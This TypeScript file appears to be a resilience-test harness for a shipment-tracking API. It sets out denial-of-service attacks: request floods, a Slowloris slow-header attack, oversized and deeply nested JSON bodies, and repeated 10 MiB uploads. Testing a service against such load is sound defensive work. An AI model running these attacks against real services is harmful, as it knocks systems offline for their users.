import { createHash, randomBytes, randomUUID } from 'node:crypto';
import { connect } from 'node:net';
import { setTimeout } from 'node:timers/promises';
import { Pool } from 'undici';

/** The service under attack, and the attacker's keys. */
export interface Target {
  /** With the major version. */
  baseUrl: string;
  /** Valid keys of the attacker's account. */
  shipperKey: string;
  carrierKey: string;
  /** A dispatched shipment of that account. */
  trackingNumber: string;
}

/** Sends requests until the signal aborts. @returns the number of responses by status; 0 is a connection error */
export type Attack = (target: Target, signal: AbortSignal) => Promise<Record<string, number>>;

interface AttackRequest {
  method: 'GET' | 'POST' | 'PUT';
  path: string;
  headers?: Record<string, string>;
  body?: string | Uint8Array;
}

const mebibyte = 1024 * 1024;
const base62 = (length: number): string =>
  randomBytes(length * 2)
    .toString('base64url')
    .replace(/[-_]/g, '')
    .slice(0, length);

/** Sends requests over a number of connections, one at a time on each. */
function flood(connections: number, next: (target: Target) => AttackRequest): Attack {
  return async (target, signal) => {
    const url = new URL(target.baseUrl);
    const pool = new Pool(url.origin, { connections, pipelining: 1 });
    const statuses: Record<string, number> = {};
    const send = async (): Promise<void> => {
      while (!signal.aborted) {
        const { path, ...request } = next(target);
        let status = 0;
        try {
          const response = await pool.request({ ...request, path });
          await response.body.dump();
          status = response.statusCode;
        } catch {
          await setTimeout(10); // no busy loop while connections are refused
        }
        statuses[status] = (statuses[status] ?? 0) + 1;
      }
    };
    await Promise.all(Array.from({ length: connections }, send));
    await pool.destroy();
    return statuses;
  };
}

const get = (path: string) => (): AttackRequest => ({ method: 'GET', path });
const api = ({ baseUrl }: Target, path: string): string => new URL(baseUrl).pathname + path;

/** A body of up to 1 MiB: `start`, as many `item`s as fit, and `end`. */
function filled(start: string, item: string, end: string): string {
  const space = mebibyte - start.length - end.length;
  return (
    start +
    Array(Math.floor((space + 1) / (item.length + 1)))
      .fill(item)
      .join(',') +
    end
  );
}

const positions =
  (body: string) =>
  (target: Target): AttackRequest => ({
    method: 'POST',
    path: api(target, `/tracking/${target.trackingNumber}/positions`),
    headers: { authorization: `Bearer ${target.carrierKey}`, 'content-type': 'application/json' },
    body,
  });

/** Sends request headers byte by byte, one every 100 ms, without an end (Slowloris). */
const slowSockets: Attack = async ({ baseUrl }, signal) => {
  const { hostname, port } = new URL(baseUrl);
  let opened = 0;
  const sendSlowly = async (): Promise<void> => {
    while (!signal.aborted) {
      const socket = connect(Number(port), hostname);
      socket.on('error', () => {});
      opened++;
      socket.write('GET /v1/shipments HTTP/1.1\r\nHost: a\r\nX-Slow: ');
      while (!signal.aborted && !socket.destroyed) {
        socket.write('y');
        await setTimeout(100);
      }
      socket.destroy();
    }
  };
  await Promise.all(Array.from({ length: 1000 }, sendSlowly));
  return { 'sockets opened': opened };
};

const png = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);

/** Creates uploads of 10 MiB and sends their files. */
const uploads: Attack = async (target, signal) => {
  const file = Buffer.concat([png, Buffer.alloc(10 * mebibyte - png.length)]);
  const sha256 = createHash('sha256').update(file).digest('hex');
  const statuses: Record<string, number> = {};
  const count = (what: string): void => {
    statuses[what] = (statuses[what] ?? 0) + 1;
  };
  const send = async (): Promise<void> => {
    while (!signal.aborted) {
      const declared = await fetch(`${target.baseUrl}/tracking/${target.trackingNumber}/pod/uploads`, {
        method: 'POST',
        headers: {
          authorization: `Bearer ${target.carrierKey}`,
          'content-type': 'application/json',
          'idempotency-key': randomUUID(),
        },
        body: JSON.stringify({ kind: 'photo', content_type: 'image/png', size: file.length, sha256 }),
      });
      count(`declared ${declared.status}`);
      const { upload_url } = (await declared.json()) as { upload_url?: string };
      if (!upload_url) continue;
      const headers = { 'content-type': 'image/png' };
      const stored = await fetch(upload_url, { method: 'PUT', headers, body: file }).catch(() => ({ status: 0 }));
      count(`stored ${stored.status}`);
    }
  };
  await Promise.all(Array.from({ length: 8 }, send));
  return statuses;
};

/** By name, as printed in the table. */
export const attacks: Record<string, Attack> = {
  'unknown keys': flood(32, (target) => ({
    method: 'GET',
    path: api(target, '/shipments'),
    headers: { authorization: `Bearer wbk_${base62(12)}_${base62(40)}` },
  })),
  'ready probes': flood(32, get('/health/ready')),
  'contract document': flood(32, get('/openapi.json')),
  'slow sockets': slowSockets,
  'positions: 1 MiB of {}': flood(4, positions(filled('{"positions":[', '{}', ']}'))),
  'positions: 1 MiB of {"updated_at":""}': flood(1, positions(filled('{"positions":[', '{"updated_at":""}', ']}'))),
  'positions: 500,000 nested arrays': flood(4, positions('['.repeat(mebibyte / 2) + ']'.repeat(mebibyte / 2))),
  'shipments: 90,000 unknown fields': flood(4, (target) => ({
    method: 'POST',
    path: api(target, '/shipments'),
    headers: { authorization: `Bearer ${target.shipperKey}`, 'content-type': 'application/json' },
    body: `{${Array.from({ length: 90_000 }, (_, n) => `"k${n}":0`).join(',')}}`,
  })),
  'uploads of 10 MiB': uploads,
};
